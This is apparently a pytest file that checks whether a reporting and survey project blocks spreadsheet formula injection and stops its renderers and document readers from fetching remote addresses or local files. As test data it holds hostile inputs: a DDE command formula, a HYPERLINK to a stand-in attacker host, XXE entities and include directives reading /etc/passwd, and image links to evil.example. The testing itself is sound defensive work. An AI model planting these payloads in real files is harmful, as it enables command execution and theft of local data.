"""What a file does to whoever opens it, and what making or reading one does to us: formulas, and calls to other machines."""

import csv as csv_reader
import io
import socket

import docx as word
import openpyxl
import pytest

from branches import csv_files, document_reader
from reports import release_files
from reports.documents import csv, docx, html, pdf, xlsx
from reports.documents.content import Heading, Note, Paragraph, Table
from surveys.questionnaire import load
from surveys.xlsform_writing import write_workbook
from tests.attacks.payloads import PAYLOADS
from tests.reports.documents import samples
from tests.surveys import making

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
    '=HYPERLINK("//evil.example","x")', "=cmd|' /C calc'!A0", "=IMPORTXML(A1)",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def document(words):
    rows = tuple((word, word) for word in words)
    table = Table(caption=words[0], head=("where", words[0]), rows=rows)
    blocks = (Heading(words[0]), *(Paragraph(word) for word in words), Note(words[0]), table)
    return samples.sample(title=words[1], subtitle=words[2], publisher=words[3], blocks=blocks)


def cells_of_csv(text):
    return [cell for row in csv_reader.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def runs(cell):
    """Whether a spreadsheet would run a CSV cell; a plain negative number is none."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(STARTS)
    return False


CSV_WRITERS = {
    "a record": lambda: csv_files.write(["x"], [{"x": one} for one in FORMULAS]),
    "a cell of a document": lambda: "\n".join(
        '"' + csv.safe_cell(one).replace('"', '""') + '"' for one in FORMULAS
    ),
    "a release": lambda: "\n".join(
        '"' + str(release_files._safe(one)).replace('"', '""') + '"' for one in FORMULAS
    ),
}


@pytest.mark.parametrize("writer", sorted(CSV_WRITERS))
def test_no_cell_of_a_csv_is_a_formula(writer):
    cells = cells_of_csv(CSV_WRITERS[writer]())
    assert len(cells) >= len(FORMULAS)
    assert [cell for cell in cells if runs(cell)] == []


def test_a_formula_is_noticed():
    assert [one for one in FORMULAS if not runs(one)] == []
    assert not runs("-12.5")


def test_no_cell_of_a_questionnaire_s_sheet_is_a_formula():
    questions, typed = making.definition(), [one for one in FORMULAS if one.isprintable()]
    for at, question in enumerate(question for page in questions["pages"] for question in page["questions"]):
        question["label"], question["hint"] = typed[at], typed[-at - 1]
    book = openpyxl.load_workbook(io.BytesIO(write_workbook(load(questions))))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds


# --- Calls to other machines ---
@pytest.fixture
def calls(monkeypatch):
    """Every connection that anything tries to open, a name's look-up included; none is made."""
    tried = []

    def refuse(kind):
        def refused(*arguments, **_):
            tried.append(f"{kind} {arguments[1:] or arguments}")
            raise OSError("no way out")

        return refused

    monkeypatch.setattr(socket.socket, "connect", refuse("connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("connect"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("name"))
    return tried


LEADING_OUT = (
    '#image("http://evil.example/x.png")',
    '#import "http://evil.example/x.typ"',
    '#read("/etc/passwd")',
    '#include "/etc/passwd"',
    "<img src='http://evil.example/x.png'>",
    '<image href="http://evil.example/x.svg"/>',
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "{ INCLUDEPICTURE http://evil.example/x.png }",
)


@pytest.mark.parametrize(
    "renderer", [pdf, docx, html, xlsx, csv], ids=lambda module: module.__name__.split(".")[-1]
)
def test_no_renderer_follows_an_address_in_somebody_s_words(renderer, calls):
    made = renderer.render(document((*LEADING_OUT, *PAYLOADS)))
    made = made.encode() if isinstance(made, str) else made
    assert calls == []
    assert b"root:x:0" not in made


PAGE = b"""<!doctype html><html><body><img src="http://evil.example/x"><link rel=stylesheet href="http://evil.example/x.css">
<p>1.1 Words of a paragraph.</p></body></html>"""
ENTITY = b"""<!DOCTYPE html [<!ENTITY e SYSTEM "file:///etc/passwd">]><html><body><p>1.1 Words &e; of it.</p></body></html>"""
MAIL = b"""From: a@example.org\nContent-Type: text/html\n\n<img src="http://evil.example/x"><p>1.1 Words of a paragraph.</p>"""


def word_file_with_a_picture_elsewhere():
    made, out = word.Document(), io.BytesIO()
    made.add_paragraph("1.1 Words of a paragraph.")
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
    made.part.rels.get_or_add_ext_rel(kind, "http://evil.example/x.png")
    made.save(out)
    return out.getvalue()


READ = {
    "page": lambda: document_reader.html_lines(PAGE),
    "entity": lambda: document_reader.html_lines(ENTITY),
    "mail": lambda: document_reader.email_lines(MAIL),
    "word": lambda: document_reader.docx_lines(word_file_with_a_picture_elsewhere()),
}


@pytest.mark.parametrize("name", sorted(READ))
def test_no_reader_follows_an_address_in_a_paper(name, calls):
    lines = " ".join(READ[name]())
    assert calls == []
    assert "Words" in lines and "root:x:0" not in lines


def test_a_call_is_noticed(calls):
    with pytest.raises(OSError, match="no way out"):
        socket.create_connection(("evil.example", 80))
    assert calls
